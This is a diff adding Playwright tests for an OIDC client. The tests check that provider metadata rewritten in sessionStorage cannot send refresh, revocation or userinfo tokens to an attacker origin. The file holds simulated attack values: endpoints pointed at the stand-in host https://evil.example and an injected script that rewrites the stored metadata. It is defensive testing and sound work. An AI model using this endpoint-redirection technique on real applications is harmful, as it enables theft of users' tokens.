@@ -1,0 +1,108 @@
+// Tampered storage cannot move where tokens go (issue 13). A one-time script injection can rewrite the app's
+// sessionStorage; if the app read provider endpoints back from it, every later refresh token of the tab would go
+// wherever the injected copy says. Renewals, revocations and UserInfo use metadata fetched during the page load;
+// the callback, which uses the copy saved at sign-in, compares it with the published one before keeping anything.
+//
+// The "attacker" is https://evil.example: every request to it is recorded and refused, so a test fails on the
+// first token sent there. Against the short-lived provider (TEST_HOOKS=1), which reports its revocations.
+
+import { expect, test } from '@playwright/test';
+
+import {
+  SHORT_PROVIDER, USER,
+  discover, expectNoTokens, fingerprint, recordIssuedTokens, recordTokenRequests, revocationsAt, revocationsSince,
+  sessionEntries, sessionOf, signInAt, storedSession, useConfig,
+} from './support.mjs';
+
+const ISSUER = SHORT_PROVIDER;
+const EVIL = 'https://evil.example';
+const METADATA_KEY = 'yew-oidc:metadata';
+
+/** Every request to the attacker's origin, refused and recorded (method and path only). */
+async function recordEvil(context) {
+  const log = [];
+  await context.route(`${EVIL}/**`, async (route) => {
+    log.push(`${route.request().method()} ${new URL(route.request().url()).pathname}`);
+    await route.abort('connectionrefused');
+  });
+  return log;
+}
+
+/** The provider's metadata with every endpoint that receives a token pointed at the attacker. */
+const TAMPERED = (published) => ({
+  ...published,
+  token_endpoint: `${EVIL}/token`,
+  revocation_endpoint: `${EVIL}/revoke`,
+  userinfo_endpoint: `${EVIL}/userinfo`,
+});
+
+test('metadata written into storage moves no refresh, revocation or userinfo request', async ({ page, context }) => {
+  await useConfig(context, { issuer: ISSUER, renew_margin_seconds: 0 });
+  const published = await discover(ISSUER);
+  const evil = await recordEvil(context);
+  const tokenRequests = recordTokenRequests(context, published.token_endpoint);
+  await signInAt(page, ISSUER);
+  const session = await sessionOf(page);
+
+  // The injection writes its copy once; the next page load is where a cached copy would have been trusted.
+  await page.evaluate(([key, value]) => window.sessionStorage.setItem(key, value),
+    [METADATA_KEY, JSON.stringify(TAMPERED(published))]);
+  await page.reload();
+  await expect(page.getByTestId('user-name')).toHaveText(USER.name);
+
+  await page.getByTestId('refresh').click();
+  await expect.poll(() => tokenRequests.refreshes().map((r) => r.status), {
+    message: 'the renewal reached the provider\'s own token endpoint',
+  }).toEqual([200]);
+  await expect(page.getByTestId('user-name')).toHaveText(USER.name);
+
+  const renewed = await sessionOf(page);
+  const mark = (await revocationsAt(ISSUER)).length;
+  await page.getByTestId('sign-out-local').click();
+  await expect(page.getByTestId('signed-out-notice')).toHaveAttribute('data-kind', 'local');
+  const seen = await revocationsSince(ISSUER, mark, 2);
+  expect(seen.map((r) => [r.token, r.status]), 'revoked at the provider\'s own revocation endpoint').toEqual([
+    [fingerprint(renewed.refresh_token), 200], [fingerprint(renewed.access_token), 200],
+  ]);
+  expect(fingerprint(renewed.refresh_token)).not.toBe(fingerprint(session.refresh_token));
+  expect(evil, 'requests that reached the attacker').toEqual([]);
+});
+
+test('a callback whose saved metadata was rewritten keeps nothing, revokes what it got, and says why', async ({
+  page, context,
+}) => {
+  await useConfig(context, { issuer: ISSUER });
+  const published = await discover(ISSUER);
+  const evil = await recordEvil(context);
+  const issued = recordIssuedTokens(context, published.token_endpoint);
+  // Rewrites the copy saved at sign-in just before the app reads it on /callback. The token endpoint is left
+  // alone here, so the code exchange succeeds and the check after it is what must catch the rest.
+  await page.addInitScript(([key, evilOrigin]) => {
+    if (window.location.pathname !== '/callback') return;
+    const saved = JSON.parse(window.sessionStorage.getItem(key) ?? 'null');
+    if (!saved) return;
+    saved.revocation_endpoint = `${evilOrigin}/revoke`;
+    saved.userinfo_endpoint = `${evilOrigin}/userinfo`;
+    window.sessionStorage.setItem(key, JSON.stringify(saved));
+  }, [METADATA_KEY, EVIL]);
+  const mark = (await revocationsAt(ISSUER)).length;
+
+  await page.goto('/');
+  await page.getByTestId('sign-in').click();
+  await page.getByTestId('login-username').fill(USER.username);
+  await page.getByTestId('login-password').fill(USER.password);
+  await page.getByTestId('login-submit').click();
+
+  await expect(page.getByTestId('auth-error')).toContainText('metadata saved at sign-in differs');
+  await expect(page.getByTestId('user-name')).toHaveCount(0);
+  expect(await storedSession(page) === null, 'no session kept').toBe(true);
+  expect(issued.count(), 'the code was exchanged').toBe(1);
+  const [refresh] = await issued.of('refresh_token');
+  const [access] = await issued.of('access_token');
+  const seen = await revocationsSince(ISSUER, mark, 2);
+  expect(seen.map((r) => [r.token, r.status]), 'what was received is revoked at the published endpoint').toEqual([
+    [fingerprint(refresh), 200], [fingerprint(access), 200],
+  ]);
+  expectNoTokens(await sessionEntries(page), await issued.all(), 'after the refused callback');
+  expect(evil, 'requests that reached the attacker').toEqual([]);
+});
